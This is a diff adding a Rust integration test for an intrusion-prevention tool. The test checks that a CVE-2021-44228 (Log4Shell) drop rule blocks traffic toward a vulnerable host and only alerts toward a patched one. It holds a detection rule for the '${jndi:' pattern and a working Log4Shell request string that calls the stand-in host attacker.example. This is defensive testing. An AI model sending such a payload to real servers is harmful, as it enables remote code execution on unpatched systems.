@@ -17,7 +17,7 @@
 mod common;
 
 use std::io::{Read, Write};
-use std::net::TcpStream;
+use std::net::{SocketAddr, TcpStream};
 use std::process::Command;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
@@ -622,4 +622,89 @@ fn reloads_swap_good_rulesets_and_refuse_broken_ones_while_traffic_flows() {
     assert!(server.saw("/three"), "a refused ruleset never applied");
     let ev = w.stop();
     assert!(!of_type(&ev, "alert").is_empty());
+}
+
+/// Asset-aware scoping inline: the server namespace holds two hosts, one
+/// the inventory marks vulnerable to the rule's CVE and one patched; the
+/// CVE drop rule blocks the exploit toward the first and only alerts
+/// toward the second, whose request succeeds.
+#[test]
+fn a_cve_scoped_drop_blocks_toward_the_vulnerable_host_and_alerts_toward_the_patched_one() {
+    require_netns!();
+    let t = Topology::new(Link::Bridged);
+    let patched_ip = format!(
+        "{}.3",
+        t.server_ip.rsplit_once('.').expect("IPv4 address").0
+    );
+    ip(&[
+        "-n",
+        &t.server_ns,
+        "addr",
+        "add",
+        &format!("{patched_ip}/24"),
+        "dev",
+        &t.server_if,
+    ]);
+    let vulnerable = Server::start(&t);
+    let patched_addr: SocketAddr = format!("{patched_ip}:{SERVER_PORT}").parse().unwrap();
+    let patched = Server::start_at(&t, patched_addr);
+    let inventory = std::env::temp_dir().join(format!(
+        "warden-inline-{}-scope-assets.yaml",
+        std::process::id()
+    ));
+    std::fs::write(
+        &inventory,
+        format!(
+            "assets:\n  - address: {}\n    vulnerable: [CVE-2021-44228]\n  - address: {patched_ip}\n    patched: [CVE-2021-44228]\n",
+            t.server_ip
+        ),
+    )
+    .unwrap();
+    let mut args = inline_args(&t);
+    args.extend(["--inventory".into(), inventory.display().to_string()]);
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let w = Warden::start(
+        &t.warden_ns,
+        &args,
+        "drop http any any -> any any (msg:\"log4j jndi lookup\"; http.uri; content:\"${jndi:\"; metadata: cve CVE_2021_44228; sid:1101;)\n",
+        "scope",
+    );
+    let exploit = "/?q=${jndi:ldap://attacker.example/a}";
+    let blocked = get(&t, exploit);
+    assert!(
+        matches!(blocked, Outcome::TimedOut),
+        "toward the vulnerable host the exploit must get no answer, got {blocked:?}"
+    );
+    assert!(
+        !vulnerable.saw(exploit),
+        "the vulnerable host saw the exploit"
+    );
+    match get_at(&t, patched_addr, exploit) {
+        Outcome::Response(200, _) => {}
+        other => panic!("toward the patched host the request must succeed: {other:?}"),
+    }
+    assert!(patched.saw(exploit));
+    let ev = w.stop();
+    let _ = std::fs::remove_file(&inventory);
+    let alerts = of_type(&ev, "alert");
+    let toward = |host: &str| {
+        alerts
+            .iter()
+            .find(|a| a["dest_ip"] == host)
+            .unwrap_or_else(|| panic!("an alert toward {host}: {alerts:?}"))
+    };
+    let v = toward(&t.server_ip);
+    assert_eq!(v["alert"]["action"], "blocked");
+    assert_eq!(v["alert"]["scope"]["decision"], "enforce");
+    assert_eq!(
+        v["alert"]["scope"]["reason"],
+        "vulnerable to CVE-2021-44228"
+    );
+    let p = toward(&patched_ip);
+    assert_eq!(p["alert"]["action"], "allowed");
+    assert_eq!(p["alert"]["scope"]["decision"], "alert-only");
+    assert_eq!(p["alert"]["scope"]["reason"], "patched CVE-2021-44228");
+    assert!(of_type(&ev, "drop")
+        .iter()
+        .all(|d| d["dest_ip"] != patched_ip.as_str()));
 }
